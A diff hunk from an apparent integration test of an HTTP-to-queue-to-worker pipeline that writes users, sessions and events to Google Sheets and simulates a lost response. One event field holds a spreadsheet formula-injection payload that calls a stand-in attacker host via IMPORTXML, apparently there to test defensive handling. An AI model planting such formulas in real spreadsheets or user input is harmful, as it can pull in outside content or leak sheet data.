@@ -41,7 +41,7 @@ const tab = (title: string) => {
 test('HTTP → queue → worker → Sheets: users, sessions and events, a lost response included', async () => {
   expect((await post('/v3/user', { _uid: 'u1', plan: 'free', seats: 3 })).status).toBe(202);
   expect((await post('/v3/session', { _sid: 's1', _uid: 'u1', page: '/home' })).status).toBe(202);
-  fake.faults.add({ kind: 'lose-response' }, { method: 'values.append' });
+  fake.faults.add({ kind: 'lose-response' }, { method: 'values.batchUpdate' });
   const res = await post('/v3/event', [
     { _event: 'signup', _uid: 'u1', plan: 'free' },
     { _event: 'import', formula: '=IMPORTXML("https://evil.example","//a")', cart: { items: 2 } },
